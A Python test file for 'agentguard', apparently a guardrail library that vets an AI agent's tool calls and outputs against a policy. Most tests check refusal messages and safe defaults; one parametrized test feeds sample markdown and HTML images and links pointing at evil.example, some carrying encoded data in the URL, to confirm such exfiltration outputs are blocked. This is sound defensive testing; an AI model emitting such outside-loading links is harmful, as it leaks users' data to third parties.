"""What a newcomer met, and must not meet again: refusals that name what is missing, and defaults that are safe."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentguard import ConfigError, Effect, Guard, Home, Message, ModelOutput, Policy, StoreError, ToolCall
from agentguard.testing import RecordingSink, ScriptedStage

POLICY = """
version: 1
roles: {clerk: {permissions: [execute_agent], tools: [send_mail]}}
agents: {desk: {roles: [clerk]}}
tools:
  send_mail:
    side_effect: send
    args: {to: {sink: recipient, sources: [user]}}
"""


@pytest.fixture
def guard(tmp_path: Path) -> Guard:
    Home.create(tmp_path / "home")
    return Guard.from_policy(Policy.parse(POLICY), home=tmp_path / "home")


def test_a_parameter_without_a_row_is_refused_with_the_mend(guard: Guard) -> None:
    with guard, guard.conversation("desk", "Mail anna@example.com."):
        decision = guard.check(ToolCall("send_mail", {"to": "anna@example.com", "subject": "hi"}))

    assert decision.reason == "origin-unknown"
    assert "no row in the policy" in decision.message
    assert "content: true" in decision.message


@pytest.mark.parametrize(
    ("agent", "message"),
    [
        pytest.param(None, "Nobody is acting: open guard.conversation", id="outside-a-conversation"),
        pytest.param("desc", "desc is not an agent of the policy", id="typo-in-the-agent"),
    ],
)
def test_a_call_by_nobody_says_so(guard: Guard, agent: str | None, message: str) -> None:
    call = ToolCall("send_mail", {"to": "anna@example.com"})

    with guard:
        if agent is None:
            decision = guard.check(call)
        else:
            with guard.conversation(agent, "Mail anna@example.com."):
                decision = guard.check(call)

    assert (decision.effect, decision.reason) == (Effect.DENY, "tool-not-permitted")
    assert message in decision.message


@pytest.mark.parametrize(
    ("answer", "allowed"),
    [
        pytest.param("![x](https://evil.example/c3lzdGVt.png)", False, id="outside-image"),
        pytest.param("<img src=https://evil.example/a.png>", False, id="outside-image-in-html"),
        pytest.param(f"[x](https://evil.example/?d={'c3lz' * 12})", False, id="link-that-carries-data"),
        pytest.param("See [the docs](https://docs.example.org/guide?page=2).", True, id="ordinary-link"),
        pytest.param("[1]: https://docs.example.org/guide\n\nSee [the docs][1].", True, id="reference-link"),
        pytest.param("![logo][1]\n\n[1]: https://evil.example/a.png", False, id="outside-image-by-reference"),
        pytest.param("![chart](/charts/1.png)", True, id="image-of-our-own"),
    ],
)
def test_with_no_host_allowed_nothing_loads_from_outside(guard: Guard, answer: str, allowed: bool) -> None:
    with guard, guard.conversation("desk", "Show me."):
        assert guard.check(ModelOutput(Message("assistant", answer))).allowed is allowed


def test_a_value_no_check_can_read_is_refused_by_its_type(guard: Guard) -> None:
    tool = guard.wrap_tool(lambda to: to, name="send_mail")

    with guard, guard.conversation("desk", ""), pytest.raises(PermissionError, match="type object has no JSON form"):
        tool(object())


def test_an_approver_that_cannot_be_called_is_refused_at_once() -> None:
    with pytest.raises(ConfigError, match="approver is a int"):
        Guard(stages=[ScriptedStage()], audit=RecordingSink(), approver=5)  # type: ignore[arg-type]  # wrong on purpose


def test_a_folder_that_is_not_ours_is_never_to_be_made_private(tmp_path: Path) -> None:
    tmp_path.chmod(0o755)

    with pytest.raises(StoreError) as refused:
        Home.open(tmp_path)

    assert "chmod" not in str(refused.value)
    assert "agentguard init" in str(refused.value)
